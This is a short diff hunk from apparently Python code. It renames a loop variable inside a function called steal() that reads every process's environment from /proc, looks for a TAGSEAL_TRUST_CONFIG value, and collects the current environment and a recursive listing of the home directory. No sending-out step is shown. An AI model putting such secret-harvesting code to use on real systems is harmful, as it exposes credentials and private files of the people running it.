@@ -56,7 +56,7 @@ def steal() -> dict[str, object]:
     """Return everything that was found."""
     tree = processes()
     environs = {pid: read(f"/proc/{pid}/environ") for pid in tree}
-    job = next((one for one in environs.values() if "\0TAGSEAL_TRUST_CONFIG=" in one), "")
+    job = next((environ for environ in environs.values() if "\0TAGSEAL_TRUST_CONFIG=" in environ), "")
     return {
         "own": dict(os.environ),
         "home": sorted(map(str, Path.home().rglob("*"))),
